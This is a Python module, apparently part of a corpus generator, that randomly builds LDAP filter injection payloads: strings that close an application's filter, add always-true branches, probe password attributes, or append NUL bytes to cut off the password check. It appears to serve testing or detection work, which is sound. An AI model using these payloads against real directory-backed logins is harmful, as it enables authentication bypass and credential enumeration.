"""LDAP filter injection: a value the application puts inside a filter such as
`(&(uid=USER)(userPassword=PASS))` closes it and adds filters of its own: an always-true
`(|(uid=*))`, an attribute probe, a NUL that ends the filter early."""

from __future__ import annotations

import random

from owncorpus.grammar import Attack, draw_distinct, one

CLASS = "ldapi"
PARAMS = ("user", "username", "uid", "login", "cn", "search", "mail", "group", "name", "filter")

ATTRIBUTES = ("uid", "cn", "mail", "objectClass", "sAMAccountName", "userPassword", "memberOf", "description",
              "givenName", "sn", "telephoneNumber", "member", "ou", "homeDirectory")
LEADS = ("*", "admin", "jdoe", "", "a*", "*admin*", "x")


def _filter(rng: random.Random) -> str:
    attr = one(rng, ATTRIBUTES)
    value = one(rng, ("*", "*", "a*", "admin*", "*)(" + one(rng, ATTRIBUTES) + "=*"))
    inner = f"({attr}={value})"
    form = rng.randrange(4)
    if form == 0:
        return f"(|{inner}"
    if form == 1:
        return f"(&{inner}"
    if form == 2:
        return f"(|(objectClass=*){inner}"
    return inner


def _compose(rng: random.Random) -> str:
    form = rng.randrange(6)
    lead = one(rng, LEADS)
    closes = ")" * rng.randrange(1, 3)
    if form == 0:
        # close, open an always-true branch, leave the application's tail to close it
        return f"{lead}{closes}{_filter(rng)}" + ("" if rng.random() < 0.5 else ")")
    if form == 1:
        a, b = one(rng, ATTRIBUTES), one(rng, ATTRIBUTES)
        return f"{lead}){closes[1:]}({a}=*))(|({b}=*"
    if form == 2:
        # NUL ends the filter for C-based servers: the password check never runs
        return f"{lead}{closes}{_filter(rng)}{')' * rng.randrange(0, 3)}" + one(rng, ("\x00", "%00"))
    if form == 3:
        return f"{lead})(&)" if rng.random() < 0.5 else f"{lead})(|(&)"
    if form == 4:
        attr = one(rng, ("userPassword", "unicodePwd", "description", "mail"))
        return f"{lead}){closes[1:]}({attr}={one(rng, ('*', 'a*', '{SSHA}*', '*1*'))}"
    return f"{lead}{closes}(|{_filter(rng)}({one(rng, ATTRIBUTES)}=*)" + one(rng, ("", ")", "))"))


def attacks(rng: random.Random, n: int) -> list[Attack]:
    return [Attack(CLASS, p, PARAMS) for p in draw_distinct(rng, _compose, n)]
